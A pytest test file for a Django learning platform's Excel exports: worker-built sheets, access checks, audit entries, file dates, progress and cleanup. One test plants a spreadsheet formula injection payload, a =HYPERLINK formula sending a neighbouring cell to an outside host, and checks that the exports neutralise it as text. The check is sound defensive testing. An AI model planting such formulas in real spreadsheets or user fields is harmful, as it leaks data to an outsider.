"""Excel exports: asked for from the dashboard, written by a real Celery worker while the page
follows the progress, opened here with openpyxl; only the person who asked (or a site admin)
downloads them; every export and download is in the audit log."""

import datetime as dt
import io
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from lms.core.models import AuditEntry
from lms.dashboards import exports, tasks
from lms.dashboards.models import Export
from tests.factories import make_member
from tests.utils import wait_until

from .conftest import enrol


def wait_for(export_id: int, timeout: float = 90) -> Export:
    return wait_until(
        lambda: (export := Export.objects.get(pk=export_id)).is_finished and export,
        timeout=timeout,
        message=f"export {export_id} not finished after {timeout} s",
    )


def rows_of(response, sheet: int = 0) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.worksheets[sheet].iter_rows(values_only=True)]


@pytest.mark.worker
def test_completion_matrix_is_written_by_the_worker(
    celery_worker, client, people, org_tree, learning
):
    client.force_login(people["head_general_a"])
    response = client.post(
        reverse("dashboards:export_create", args=[org_tree["general_a"].pk]),
        {"kind": "completion"},
    )
    export_id = Export.objects.get().pk
    assert response.status_code == 302
    assert response.url == reverse("dashboards:export_detail", args=[export_id])
    assert client.get(response.url).status_code == 200  # the page never waits for the file

    export = wait_for(export_id)
    status = client.get(reverse("dashboards:export_status", args=[export_id])).json()
    download = client.get(status["download_url"])

    assert export.status == Export.Status.DONE, export.error
    assert (status["status"], status["progress"], export.rows) == ("done", 100, 4)
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith("attachment")
    table = rows_of(download)
    headers = table[2]
    assert headers[:4] == ["姓名", "用户名", "组织", "人员类别"]
    rules_col = next(i for i, h in enumerate(headers) if h.startswith("党章党规专题"))
    history_col = next(i for i, h in enumerate(headers) if h.startswith("党史学习教育"))
    by_name = {row[0]: row for row in table[3:]}
    assert set(by_name) == {"王总支", "张书记", "刘洋", "陈静"}
    assert by_name["张书记"][history_col].startswith("已完成")
    assert by_name["刘洋"][history_col] == "学习中"
    assert by_name["刘洋"][rules_col] == "已逾期"
    assert by_name["陈静"][history_col] == "未开始"
    assert by_name["陈静"][rules_col] == "不要求"
    assert by_name["张书记"][-2:] == ["2/2", 0]
    assert by_name["刘洋"][-2:] == ["0/2", 1]
    summary = {row[0]: row for row in rows_of(client.get(status["download_url"]), 1)[3:]}
    assert summary["党史学习教育"][2:7] == [4, 1, 1, 2, 0]

    audit = AuditEntry.objects.get(action="export.completion")
    assert (audit.actor, audit.organization, audit.detail) == (
        people["head_general_a"],
        org_tree["general_a"],
        {"export": export_id},
    )
    assert AuditEntry.objects.filter(action="export.download").count() == 2


@pytest.mark.worker
def test_points_export_is_written_by_the_worker(celery_worker, client, people, org_tree, learning):
    client.force_login(people["secretary_a1"])
    client.post(
        reverse("dashboards:export_create", args=[org_tree["branch_a1"].pk]), {"kind": "points"}
    )

    export = wait_for(Export.objects.get().pk)
    table = rows_of(client.get(reverse("dashboards:export_download", args=[export.pk])))

    assert export.status == Export.Status.DONE, export.error
    assert table[2][4:] == ["本周积分", "本月积分", "本年积分", "累计积分", "本周学习时长（分钟）"]
    by_name = {row[0]: row for row in table[3:]}
    assert set(by_name) == {"张书记", "刘洋"}
    assert by_name["刘洋"][4] == 3 and by_name["刘洋"][7] == 3 and by_name["刘洋"][8] == 30
    assert by_name["张书记"][7] == 5 + 1  # earned before this week, and logging in today


@pytest.mark.django_db
def test_only_the_person_who_asked_or_an_admin_downloads(client, people, org_tree, learning):
    export = Export.objects.create(
        requested_by=people["head_general_a"], organization=org_tree["general_a"], kind="points"
    )
    tasks.build_export(export.pk)  # what the worker runs
    urls = [
        reverse(name, args=[export.pk])
        for name in (
            "dashboards:export_detail",
            "dashboards:export_status",
            "dashboards:export_download",
        )
    ]

    client.force_login(people["secretary_a1"])  # a head too, but she did not ask
    assert [client.get(url).status_code for url in urls] == [404, 404, 404]
    client.force_login(get_user_model().objects.create_superuser("root", password="x"))
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]
    client.force_login(people["head_general_a"])
    assert [client.get(url).status_code for url in urls] == [200, 200, 200]


@pytest.mark.django_db
def test_the_file_name_carries_the_platforms_date_not_utcs(client, people, org_tree, learning):
    import datetime as dt

    export = Export.objects.create(
        requested_by=people["head_general_a"], organization=org_tree["general_a"], kind="points"
    )
    tasks.build_export(export.pk)
    # 00:30 on 1 December in Shanghai is still 30 November in UTC.
    Export.objects.filter(pk=export.pk).update(
        created_at=dt.datetime(2026, 11, 30, 16, 30, tzinfo=dt.UTC)
    )
    client.force_login(people["head_general_a"])

    response = client.get(reverse("dashboards:export_download", args=[export.pk]))

    assert "20261201" in response["Content-Disposition"]
    assert "20261130" not in response["Content-Disposition"]


@pytest.mark.django_db
def test_a_file_is_not_offered_before_it_is_written(client, people, org_tree, learning):
    export = Export.objects.create(
        requested_by=people["secretary_a1"], organization=org_tree["branch_a1"], kind="points"
    )
    client.force_login(people["secretary_a1"])

    status = client.get(reverse("dashboards:export_status", args=[export.pk])).json()
    download = client.get(reverse("dashboards:export_download", args=[export.pk]))

    assert (status["status"], status["download_url"]) == ("queued", "")
    assert download.status_code == 404


@pytest.mark.django_db
def test_progress_is_reported_while_the_workbook_is_written(
    people, org_tree, learning, monkeypatch
):
    for n in range(3):
        enrol(make_member(org_tree["branch_a2"], f"x{n}"), learning["history"])
    monkeypatch.setattr(exports, "CHUNK_SIZE", 1)
    export = Export.objects.create(
        requested_by=people["head_general_a"], organization=org_tree["general_a"], kind="completion"
    )

    with CaptureQueriesContext(connection) as captured:
        tasks.build_export(export.pk)

    progress = [q["sql"] for q in captured if "UPDATE" in q["sql"] and '"progress"' in q["sql"]]
    # Marked running, then one update after each of the seven members, then done.
    assert len(progress) == 9
    export.refresh_from_db()
    assert (export.status, export.progress, export.rows) == ("done", 100, 7)


@pytest.mark.django_db
def test_an_unknown_report_is_refused_with_a_message(client, people, org_tree):
    client.force_login(people["secretary_a1"])

    response = client.post(
        reverse("dashboards:export_create", args=[org_tree["branch_a1"].pk]),
        {"kind": "everything"},
        follow=True,
    )

    assert not Export.objects.exists()
    assert "请选择" in response.content.decode() or "Choose" in response.content.decode()


@pytest.mark.django_db
def test_old_exports_are_deleted_with_their_files(people, org_tree, learning, settings):
    old, recent = (
        Export.objects.create(
            requested_by=people["secretary_a1"], organization=org_tree["branch_a1"], kind="points"
        )
        for _ in range(2)
    )
    for export in (old, recent):
        tasks.build_export(export.pk)
    Export.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - dt.timedelta(days=settings.DASHBOARDS_EXPORT_DAYS + 1)
    )
    old_file = Path(Export.objects.get(pk=old.pk).file.path)
    assert old_file.exists()

    assert tasks.delete_old_exports() == 1

    assert not old_file.exists()
    assert list(Export.objects.all()) == [recent]
    assert Path(Export.objects.get().file.path).exists()


LINK = '=HYPERLINK("http://x.cn/?q="&B5,"点击查看")'  # a member "named" to leak the next cell


def cells_of(response, sheet: int = 0) -> list[list]:
    """The cells themselves (not only their values): their type says text or formula."""
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.worksheets[sheet].iter_rows()]


@pytest.mark.worker
def test_names_typed_as_formulas_are_text_in_both_exports(
    celery_worker, client, people, org_tree, learning
):
    profile = people["member_a1"].profile
    profile.real_name = LINK
    profile.save()
    branch = org_tree["branch_a1"]
    branch.name = "+第一党支部"
    branch.save()
    course = learning["history"]
    course.title = "=党史学习教育"
    course.save()
    client.force_login(people["head_general_a"])
    for kind in ("completion", "points"):
        client.post(
            reverse("dashboards:export_create", args=[org_tree["general_a"].pk]), {"kind": kind}
        )

    sheets = {}
    for export in Export.objects.order_by("pk"):
        export = wait_for(export.pk)
        assert export.status == Export.Status.DONE, export.error
        url = reverse("dashboards:export_download", args=[export.pk])
        sheets[export.kind] = cells_of(client.get(url))
        if export.kind == "completion":
            sheets["summary"] = cells_of(client.get(url), 1)

    for kind in ("completion", "points", "summary"):
        formulas = [
            cell.coordinate for row in sheets[kind] for cell in row if cell.data_type == "f"
        ]
        assert formulas == [], kind
    for kind in ("completion", "points"):
        member = next(row for row in sheets[kind] if row[0].value == "'" + LINK)
        assert (member[0].data_type, member[0].value) == ("s", "'" + LINK)
        assert member[2].value == "'+第一党支部"
    headers = [cell.value for cell in sheets["completion"][2]]
    assert any(header.startswith("'=党史学习教育") for header in headers)
    courses = [row[0].value for row in sheets["summary"][3:]]
    assert "'=党史学习教育" in courses
